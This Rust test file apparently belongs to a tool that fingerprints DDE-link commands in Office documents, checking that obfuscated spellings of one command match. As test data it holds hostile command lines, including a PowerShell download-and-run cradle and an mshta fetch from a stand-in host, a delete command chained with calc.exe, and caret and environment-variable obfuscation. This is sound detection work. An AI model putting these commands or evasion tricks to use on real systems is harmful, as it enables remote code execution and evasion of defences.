//! Spellings of one command, and commands that look alike.

use std::collections::BTreeMap;

use super::spelling::{of_command, text};
use super::*;
use crate::command::{Command, Pool, Stage};
use crate::link::{Kind, Link, Reading};
use crate::location::Location;

fn of(service: &str, topic: &str) -> String {
    let location = Location::root(None);
    let mut link = Link::new(Kind::DdeAuto, Carrier::Field, location, "x");
    link.readings.push(Reading {
        service: Some(service.into()),
        topic: Some(topic.into()),
        ..Reading::default()
    });
    let pool = Pool::new(u64::MAX);
    fingerprint(&Subject::new(&link, link.readings.first(), &pool))
}

/// Each group is one command.
const GROUPS: &[&[(&str, &str)]] = &[
    &[
        ("cmd", "/c calc.exe"),
        ("CMD.EXE", "/C CALC.EXE"),
        ("c:\\windows\\system32\\cmd.exe", "/c  calc.exe "),
        ("c:\\\\windows\\\\system32\\\\cmd.exe", "/c calc.exe"),
        ("C:/Windows/System32/cmd", "/c calc.exe"),
        ("%COMSPEC%", "/c calc.exe"),
        (
            "c:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe",
            "/c calc.exe",
        ),
        (
            "MSEXCEL",
            "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe",
        ),
        ("cmd", "/c \"calc.exe\""),
        ("cmd.exe /c calc.exe", ""),
    ],
    &[
        ("cmd", "/c calc.exe http://a.example/A"),
        ("cmd", "/c Calc.exe HTTP://A.EXAMPLE/A"),
        ("cmd", "/c calc.exe http:\\\\a.example\\A"),
        ("cmd", "/c calc.exe http://office.com@a.example/A"),
    ],
    &[("cmd", "/c calc.exe http://a.example/a")],
    &[("cmd", "/c notepad.exe")],
    &[
        ("cmd", "/c del /q c:\\x & calc.exe"),
        ("cmd", "/C DEL /Q \"C:\\X\" & calc.exe"),
    ],
    &[("c:\\users\\public\\cmd.exe", "/c calc.exe")],
    &[
        ("mshta", "http://a.example/X.hta"),
        (
            "C:\\Windows\\SysWOW64\\mshta.exe",
            "\"http://a.example/X.hta\"",
        ),
    ],
    &[("mshta", "http://a.example/x.hta")],
    &[("excel", "[a.xlsx]Sheet1")],
    &[("excel", "[A.xlsx]Sheet1")],
];

#[test]
fn spellings_of_one_command() {
    let mut seen = BTreeMap::new();
    for (number, group) in GROUPS.iter().enumerate() {
        for (service, topic) in *group {
            let first = *seen.entry(of(service, topic)).or_insert(number);
            assert_eq!(first, number, "{service} {topic} is like group {first}");
        }
        let (service, topic) = group[0];
        let first = of(service, topic);
        for (service, topic) in *group {
            assert_eq!(of(service, topic), first, "{service} {topic}");
        }
    }
}

fn stage(image: &str, arguments: &str, script: Option<&str>, stages: Vec<Stage>) -> Stage {
    Stage {
        image: Some(image.into()),
        arguments: Some(arguments.into()),
        script: script.map(str::to_owned),
        stages,
    }
}

fn command(arguments: &str, script: &str, stages: Vec<Stage>) -> Vec<String> {
    let command = Command {
        line: String::new(),
        image: Some("cmd.exe".into()),
        arguments: Some(arguments.into()),
        script: Some(script.into()),
        stages,
    };
    of_command(&command, "cmd.exe", false)
}

const CODE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/A')";

/// Stages as the engine gives them for the same code, encoded or not, in one shell or two.
#[test]
fn the_tree_counts_not_the_way_there() {
    let clear = stage("powershell.exe", "-c ...", Some(CODE), vec![]);
    let encoded = stage("powershell.exe", "-nop -enc SQBFAFgA", Some(CODE), vec![]);
    let first = command(
        "/c powershell -c ...",
        "powershell -c ...",
        vec![clear.clone()],
    );
    let spelled = command(
        "/v /c set x=power&&call %x%shell -enc SQBFAFgA",
        "set x=power&&powershell -enc SQBFAFgA",
        vec![encoded.clone()],
    );
    assert_eq!(spelled, first);
    let nested = stage(
        "cmd.exe",
        "/c powershell",
        Some("powershell -c ..."),
        vec![clear.clone()],
    );
    let nested = command(
        "/c cmd /c powershell",
        "cmd /c powershell -c ...",
        vec![nested],
    );
    assert_eq!(nested, first);
    let more = command("/c x", "del c:\\x & powershell -c ...", vec![clear.clone()]);
    assert_ne!(more, first);
    let output = command("/c x", "powershell -c ... > c:\\x", vec![clear.clone()]);
    assert_ne!(output, first);
    let other = CODE.replace("/A", "/a");
    let other = stage("powershell.exe", "-c ...", Some(&other), vec![]);
    assert_ne!(command("/c x", "powershell -c ...", vec![other]), first);
    let twice = vec![clear.clone(), clear];
    let twice = command("/c x", "powershell -c ... & powershell -c ...", twice);
    assert_ne!(twice, first);
}

#[test]
fn one_spelling() {
    for (one, other) in [
        ("/C  \"C:\\\\A\\\\b.EXE\"\t-X", "/c c:\\a\\b.exe -x"),
        ("c^al^c", "calc"),
        ("C:\\a\\x\\..\\b.exe", "c:\\a\\b.exe"),
        ("\\\\Host\\\\share\\\\a", "\\\\host\\share\\a"),
        (
            "f('HTTPS://a.Example:8/A?B');",
            "F(https://A.example:8/A?B);",
        ),
    ] {
        assert_eq!(text(one, true), text(other, true), "{one}");
    }
    for (one, other) in [
        ("http://a.example/A", "http://a.example/a"),
        (
            "-e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "-e sQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        ),
        ("a b", "ab"),
        ("\\\\h\\s", "\\h\\s"),
    ] {
        assert_ne!(text(one, true), text(other, true), "{one}");
    }
    assert_eq!(text("http://", false), "http://");
}
